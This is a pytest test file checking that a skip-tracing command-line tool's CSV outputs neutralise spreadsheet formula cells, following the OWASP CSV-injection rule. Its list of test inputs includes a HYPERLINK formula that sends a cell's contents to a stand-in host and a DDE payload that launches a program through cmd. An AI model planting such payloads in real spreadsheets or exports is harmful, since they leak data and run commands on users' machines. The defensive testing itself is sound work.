"""Every CSV the program writes neutralises cells a spreadsheet would run as formulas
(the OWASP CSV-injection rule): the log export, the rejects file, the match output."""

from __future__ import annotations

import csv
from pathlib import Path

import pytest

from skiptrace.cli import main
from skiptrace.formula_safe import TRIGGERS, formula_safe

ATTACKS = ["=HYPERLINK(\"http://x.example/?\"&A1)", "+1+cmd|' /C calc'!A0", "-2+3",
           "@SUM(1+1)", "\t=1+1", "\r=1+1"]  # fmt: skip


def _cells(path: Path) -> list[str]:
    with path.open(newline="", encoding="utf-8") as fh:
        return [cell for row in csv.reader(fh) for cell in row]


def _assert_no_formula(path: Path) -> None:
    for cell in _cells(path):
        assert not cell.startswith(TRIGGERS), (path.name, cell)


@pytest.mark.parametrize("text", ATTACKS)
def test_a_cell_that_could_start_a_formula_is_quoted(text):
    assert formula_safe(text) == "'" + text
    assert formula_safe(12.5) == 12.5 and formula_safe("Kowalski") == "Kowalski"


def test_log_export_csv(tmp_path, capsys):
    ws = ["--workspace", str(tmp_path / "demo.sqlite")]
    assert main(["demo", *ws]) == 0
    for attack in ATTACKS[:2]:
        justification = f"{attack} mail returned undeliverable, need a current address"
        assert main([*ws, "search", "DEMO-10001", "--purpose", "fcra-604a3a",
                     "--justification", justification]) == 0  # fmt: skip
    out = tmp_path / "log.csv"
    assert main([*ws, "log", "export", "--format", "csv", "--out", str(out)]) == 0
    _assert_no_formula(out)
    assert any(c.startswith("'=HYPERLINK") for c in _cells(out))


def test_rejects_file(tmp_path, capsys):
    ws = ["--workspace", str(tmp_path / "w.sqlite"), "--key-file", str(tmp_path / "w.keys")]
    assert main([*ws, "init"]) == 0
    portfolio = tmp_path / "p.csv"
    rows = ["account_id,first_name,last_name,zip"]
    rows += [f"R-{i},{attack},Lee,not-a-zip" for i, attack in enumerate(["=1+1", "@SUM(A1)"])]
    rows.append("R-9,Ann,Lee,43215")
    portfolio.write_text("\n".join(rows) + "\n", encoding="utf-8")
    rejects = tmp_path / "rejects.csv"
    assert main([*ws, "import", str(portfolio), "--skip-invalid", "--rejects", str(rejects)]) == 0
    _assert_no_formula(rejects)
    assert "'=1+1" in _cells(rejects)


def test_match_pairs_and_clusters(tmp_path, capsys):
    people = tmp_path / "people.csv"
    people.write_text(
        "id,first_name,last_name,dob,address1,city,state,zip\n"
        "=1+1,Robert,Kowalski,1979-04-12,12 N Main St,Columbus,OH,43215\n"
        "@A2,Robert,Kowalski,1979-04-12,12 N Main St,Columbus,OH,43215\n"
        "+3,Ann,Lee,1990-01-02,9 Elm St,Dayton,OH,45402\n",
        encoding="utf-8",
    )
    pairs, clusters = tmp_path / "pairs.csv", tmp_path / "clusters.csv"
    assert main(["match", str(people), "--out", str(pairs), "--clusters", str(clusters)]) == 0
    _assert_no_formula(pairs)
    _assert_no_formula(clusters)
    assert "'=1+1" in _cells(clusters)
